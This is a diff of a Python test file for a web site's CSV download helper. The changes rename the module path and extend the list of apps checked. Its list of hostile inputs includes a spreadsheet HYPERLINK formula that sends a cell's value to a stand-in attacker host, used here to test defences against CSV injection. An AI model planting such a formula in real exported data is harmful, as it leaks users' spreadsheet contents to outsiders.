@@ -1,4 +1,4 @@
-"""Every CSV the site writes is safe to open in a spreadsheet (kookaburra.downloads)."""
+"""Every CSV the site writes is safe to open in a spreadsheet (core.downloads)."""
 
 import csv
 import io
@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from kookaburra.downloads import csv_response, write_csv
+from core.downloads import csv_response, write_csv
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -53,8 +53,8 @@ def test_no_app_writes_csv_but_through_the_helper():
     """A new CSV download must call csv_response (or write_csv), not the csv module."""
     from pathlib import Path
 
-    root = Path(__file__).resolve().parent.parent
-    apps = ["accounts", "clubs", "games", "kookaburra", "ladders", "tournaments"]
+    root = Path(__file__).resolve().parents[2]
+    apps = ["accounts", "clubs", "core", "games", "home", "kookaburra", "ladders", "tournaments"]
     offenders = [
         str(path.relative_to(root))
         for app in apps
